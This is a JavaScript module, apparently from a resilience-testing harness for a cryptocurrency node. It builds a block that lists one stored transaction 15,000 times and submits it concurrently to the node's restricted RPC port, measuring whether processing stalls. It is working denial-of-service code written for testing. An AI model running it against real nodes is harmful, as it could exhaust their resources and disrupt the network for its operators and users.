// Row repeated: a block that lists one large stored transaction 15,000 times.
import { randomBytes } from 'node:crypto';
import { ADDRESS } from '../../nodes.mjs';
import { Rpc } from '../../rpc.mjs';
import { count, crowd } from '../crowd.mjs';
import { HttpConnection, postRequest } from '../http.mjs';

/** @import { Attack, Counts, Target } from '../attack.d.ts' */

const TIMES = 15_000;
const NONCE = 39;

/** @param {Target} target */
async function block({ ports, chain }) {
  const rpc = new Rpc(ports.rpc);
  const { blocktemplate_blob: blob } = await rpc.call('get_block_template', {
    wallet_address: ADDRESS,
    reserve_size: 8,
  });
  rpc.close();
  // An empty block ends with its number of transactions, which is zero.
  const header = Buffer.from(blob, 'hex').subarray(0, -1);
  const number = Buffer.from([0x80 | (TIMES & 0x7f), 0x80 | ((TIMES >> 7) & 0x7f), TIMES >> 14]);
  const id = Buffer.from(chain.largest.id, 'hex');
  return Buffer.concat([header, number, ...Array.from({ length: TIMES }, () => id)]);
}

/**
 * @param {Target} target
 * @param {Counts} counts
 */
async function submitAll(target, counts) {
  const whole = await block(target);
  await crowd(2, counts, async (address) => {
    const connection = await HttpConnection.open(target.ports.restricted, address);
    randomBytes(4).copy(whole, NONCE);
    const call = {
      jsonrpc: '2.0',
      id: '0',
      method: 'submit_block',
      params: [whole.toString('hex')],
    };
    try {
      await connection.ask(postRequest('/json_rpc', JSON.stringify(call)));
      count(counts, 'answers');
    } finally {
      connection.close();
    }
  });
}

/** @type {readonly Attack[]} */
export const attacks = [
  {
    id: 'repeated',
    kind: 'rpc',
    what: `a block that lists a stored transaction ${TIMES} times (2 clients, restricted port)`,
    maxBlockMs: 1000,
    run: submitAll,
  },
];
